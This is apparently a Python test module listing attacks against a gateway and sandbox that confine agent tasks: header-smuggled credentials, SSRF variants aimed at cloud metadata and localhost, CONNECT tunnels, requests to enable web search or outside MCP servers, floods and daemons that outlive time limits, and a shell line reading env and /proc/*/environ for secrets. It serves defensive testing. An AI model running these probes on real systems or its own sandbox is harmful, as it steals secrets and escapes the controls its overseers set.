"""The attacks of `test_network`, as task keys with their shell text."""

from __future__ import annotations

import base64
import json
from typing import Any

from tests.attacks.night import script
from tests.contract.test_gateway_hostile import ASK, HOSTILE, H

TWINS = {
    "keys of the box": ASK
    + b"Authorization: Bearer b\r\nX-API-KEY: c\r\nCookie: d=e\r\nx-goog-api-key: f\r\n"
    b"Connection: close\r\nContent-Length: 2\r\n\r\n{}",
    "underscores": ASK + b"x_api_key: b\r\nX_Api_Key: c\r\nproxy_authorization: d\r\nConnection: close\r\n"
    b"Content-Length: 2\r\n\r\n{}",
    "named by connection": ASK + b"Connection: close, x-api-key\r\nContent-Length: 2\r\n\r\n{}",
    "prefixed": ASK + b"X-Forwarded-For: 1.2.3.4\r\nForwarded: for=x\r\nX-Corral-Transcript: 2f\r\n"
    b"Connection: close\r\nContent-Length: 2\r\n\r\n{}",
    "no length": ASK + b"Connection: close\r\n\r\n",
    "two hosts": b"GET /v1/models HTTP/1.1\r\nHost: x\r\nHost: y\r\nConnection: close\r\n\r\n",
}
REACHING = {
    "search": '{"tools": [{"type": "web_search_20250305", "name": "web_search"}]}',
    "code": '{"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}',
    "twice": '{"tools": [], "tools": [{"type": "web_search_20250305"}]}',
    "server": '{"mcp_servers": [{"type": "url", "url": "https://elsewhere.invalid", "name": "x"}]}',
    "fetch": '{"messages": [{"role": "user", "content": [{"type": "image", '
    '"source": {"type": "url", "url": "https://elsewhere.invalid/?secret"}}]}]}',
}
SURFACE = ("GET /v1/files", "POST /v1/files", "POST /v1/messages/batches", "GET /v1/organizations/api_keys",
           "POST /v1/complete", "GET /v1/models/../files", "POST /v1/skills", "DELETE /v1/files/x",
           "GET /admin", "GET /", "PUT /grants/0123456789ab", "GET /hello", "POST /v1/messages/",
           "GET /v1/models/claude", "OPTIONS /v1/messages", "TRACE /v1/messages")  # fmt: skip
WELL_KNOWN = ("172.17.0.1", "169.254.169.254", "10.0.2.2", "192.168.65.2", "8.8.8.8", "224.0.0.1", "fe80::1",
              "ff02::1")  # fmt: skip
"""The engine's bridge, clouds' metadata, virtual machines' hosts, a resolver, multicast, link-local."""
LET_THROUGH = "docs.corral.invalid"
"""The host that attackers of case 60 are let through to; there is no such name (RFC 6761, section 6.4)."""
ALIKE = (f"{LET_THROUGH}.", f"{LET_THROUGH}.evil.invalid", f"evil{LET_THROUGH}", f"a.{LET_THROUGH}",
         "localhost",
         f"{LET_THROUGH}@127.0.0.1", f"127.0.0.1@{LET_THROUGH}", "gateway.corral", "2130706433", "0x7f000001",
         "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254", "127.0.0.1",
         "corral.invalid",
         f"{LET_THROUGH}%00.evil.invalid", f"{LET_THROUGH}#@evil.invalid")  # fmt: skip
REFLECTIONS = ("reflect", "header", "redirect", "gzip", "error", "split", "trailer", "reason")


def asking(requests: dict[str, bytes]) -> str:
    """Shell text that sends these and prints what comes back."""
    told = [(name, base64.b64encode(data).decode()) for name, data in requests.items()]
    return script("ask.py", REQUESTS=json.dumps(told))


def ways_out(hosts: list[str], ports: list[int]) -> dict[str, bytes]:
    """Requests to be let out to where a box may not go, by what is asked."""
    asked = {f"CONNECT {host}:{port}": H for host in (*hosts, *ALIKE) for port in ports}
    asked |= {f"GET http://{host}:{ports[0]}/": H for host in (*hosts, *ALIKE)}
    asked |= {f"CONNECT {LET_THROUGH}{port}": H for port in ("", ":80", ":22", ":0", ":0443", ":65536")}
    asked[f"GET http://{LET_THROUGH}/"] = b"Host: 127.0.0.1\r\n"
    asked[f"GET http://{LET_THROUGH}:443/"] = H
    asked[f"GET https://{LET_THROUGH}/"] = H
    asked[f"POST http://{LET_THROUGH}/"] = (
        f"Host: {LET_THROUGH}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n".encode()
    )
    return {
        name: name.encode() + b" HTTP/1.1\r\n" + head + b"Connection: close\r\n\r\n"
        for name, head in asked.items()
    }


def attacks(hosts: list[str], ports: list[int]) -> dict[str, Any]:
    """The attacks by task."""
    reflecting = {
        mode: b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept-Encoding: gzip\r\n"
        b"x-attack: " + mode.encode() + b"\r\nContent-Length: 2\r\n\r\n{}"
        for mode in REFLECTIONS
    }  # fmt: skip
    huge = ASK + b"Connection: close\r\nContent-Length: 200000000\r\n\r\n" + b"x" * 1000
    let_through = {"network": {"allow": [LET_THROUGH]}}
    tunnel = f"CONNECT {LET_THROUGH}:443 HTTP/1.1\r\nHost: {LET_THROUGH}\r\n\r\n".encode()
    return {
        "58-reach": script("reach.py", HOSTS=json.dumps(hosts), PORTS=json.dumps(ports)),
        "59-hostile": asking(HOSTILE),
        "59-twins": asking(TWINS),
        "60-ways-out": {"sh": asking(ways_out(hosts, ports)), **let_through},
        "60-let-through": {
            "sh": asking(dict.fromkeys("abc", tunnel))
            + script("relay.py", HOSTS=json.dumps(hosts), PORTS=json.dumps(ports), NAME=LET_THROUGH),
            **let_through,
        },
        "60-none": asking({"tunnel": tunnel}),
        "61-reflections": asking(reflecting),
        "62-look": "find / '(' -path /proc -o -path /sys ')' -prune -o -name 'gw*' -print 2>/dev/null; "
        "ls -la /run /run/gw /run/corral; cat /proc/mounts; "
        "tr '\\0' '\\n' < /proc/1/environ; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
        "ss -xl 2>/dev/null; cat /proc/net/unix",
        "62-daemon": script("flood.py", NAME="daemon", SECONDS=30, DAEMON=1) + "sleep 2",
        "62-timeout": {
            "sh": script("flood.py", NAME="timeout", SECONDS=30),
            "limits": {"time": "3s", "idle": "3s"},
        },
        "63-crowd": script("crowd.py", SECONDS_HELD=6),
        "63-neighbour": script("flood.py", NAME="neighbour", SECONDS=12),
        "64-huge": asking({"huge": huge}),
        "66-surface": asking(
            {name: f"{name} HTTP/1.1\r\n".encode() + H + b"Connection: close\r\n\r\n" for name in SURFACE}
        ),
        "66-reaching": asking(
            {
                name: ASK + f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()
                for name, body in REACHING.items()
            }
        ),
    }
